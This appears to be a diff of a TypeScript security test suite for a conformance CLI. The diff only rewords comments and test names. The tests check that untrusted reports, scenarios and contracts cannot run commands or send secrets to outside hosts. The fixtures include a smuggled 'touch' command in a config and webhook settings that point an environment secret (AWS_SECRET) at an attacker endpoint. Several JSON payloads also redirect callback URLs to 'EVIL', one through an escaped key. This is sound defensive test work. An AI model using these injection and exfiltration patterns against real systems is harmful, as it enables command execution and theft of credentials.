@@ -6,7 +6,7 @@ import type { CheckResult, Exchange, Report } from '../../specs/generated/types.
 import { program, runCommand, temporaryDirectory } from '../bin/run-command.ts';
 import { smallEndpoint } from '../bin/small-endpoint.ts';
 
-/** What the environment has that only its owner may send anywhere. */
+/** A secret of the environment that only its owner may send anywhere. */
 const env = { AWS_SECRET: 'wJalrXUtnFEMI/K7MDENG', CRM_TOKEN: 'Kx7mQp2Vw9Zt4Bn8Rc' };
 
 let directory: Awaited<ReturnType<typeof temporaryDirectory>>;
@@ -21,7 +21,7 @@ afterEach(async () => {
   await directory[Symbol.asyncDispose]();
 });
 
-/** Leaves this file behind when it is run. */
+/** Writes this file when it is executed. */
 const mark = () => directory.at('ran');
 const command = () => `touch ${mark()}`;
 
@@ -35,7 +35,7 @@ interface Attack {
   over?: Partial<CheckResult>;
 }
 
-/** A report that fits its schema, with one failed check, in the directory of a victim. */
+/** A report that matches its schema, with one failed check, in the directory of a victim. */
 async function reportOf({ surface, requirement, flags = [], configFile, url, image, over }: Attack): Promise<void> {
   const reproduce = ['npx', 'svc-conform', 'check', ...flags, '--only', requirement, '--seed', '1'].join(' ');
   const result = { section: 'x', level: 'must', verdict: 'fail', statement: 'x', remediation: 'x' } as const;
@@ -91,8 +91,8 @@ const targets = () => ({
   crmWebhook: { url: attacker.url, token: 'env:AWS_SECRET' },
 });
 
-describe('a report that came from elsewhere', () => {
-  it('starts no client by the config that it names', async () => {
+describe('a report from an untrusted source', () => {
+  it('starts no client of the config that it names', async () => {
     await writeFile(directory.at('got/c.json'), JSON.stringify({ apiClient: { exercise: { command: command() } } }));
     await reportOf({ ...client, configFile: 'got/c.json' });
     const { code, stderr } = await attack('replay', 'got');
@@ -100,7 +100,7 @@ describe('a report that came from elsewhere', () => {
   });
 
   it.each(['replay got', 'diagnose own-ai-chat --report got'])(
-    'leads %s to no address and no variable by the config that it names',
+    'gives %s no address and no variable through the config that it names',
     async (line) => {
       await writeFile(directory.at('got/c.json'), JSON.stringify(targets()));
       for (const configFile of ['got/c.json', './got/../got/c.json', directory.at('got/c.json')]) {
@@ -118,7 +118,7 @@ describe('a report that came from elsewhere', () => {
   );
 
   it.each(['replay got', 'diagnose crm-webhook --report got'])(
-    'leads %s to no address and no variable by the flags in its commands, be it of this machine',
+    'gives %s no address and no variable through the flags in its commands, even one of this machine',
     async (line) => {
       await reportOf({ ...crm, flags: ['--crm-url', attacker.url, '--crm-token', 'env:AWS_SECRET'] });
       const { code, stderr } = await attack(...line.split(' '));
@@ -196,7 +196,7 @@ describe('a delivery of a report', () => {
     String.raw`{"eventType":"Manual","callback\u0055rl":"EVIL","callbackUrl":"http://127.0.0.1:1/back"}`,
     '{"eventType":"Manual","callbackUrl":"http://127.0.0.1:1/back","data":{"replyUrl":"EVIL"}}',
     '{"eventType":"Manual","callbackUrl":7,"data":{"replyUrl":"EVIL"}}',
-  ])('leads the endpoint to no address of the report: %s', async (text) => {
+  ])('gives the endpoint no address of the report: %s', async (text) => {
     await using own = await smallEndpoint(() => ({ status: 204 }));
     const { replayExchange } = await import('../../run/replay/replay-exchange.ts');
     const one = exchange(text.replace('EVIL', attacker.url));
@@ -213,7 +213,7 @@ describe('a delivery of a report', () => {
   });
 });
 
-describe('a scenario that came from elsewhere', () => {
+describe('a scenario from an untrusted source', () => {
   it.each(['crmWebhook', 'chat', 'phone', 'apiWebhooks'])('connects no %s that only it names', async (name) => {
     const url = name === 'phone' ? attacker.url.replace('http', 'ws') : attacker.url;
     await writeFile(
@@ -228,7 +228,7 @@ describe('a scenario that came from elsewhere', () => {
   });
 });
 
-describe('a contract that came from elsewhere', () => {
+describe('a contract from an untrusted source', () => {
   it('starts no plugin of Pact and looks for none', async () => {
     const plugin = directory.at('.pact/plugins/csv-0.0.1');
     await mkdir(plugin, { recursive: true });
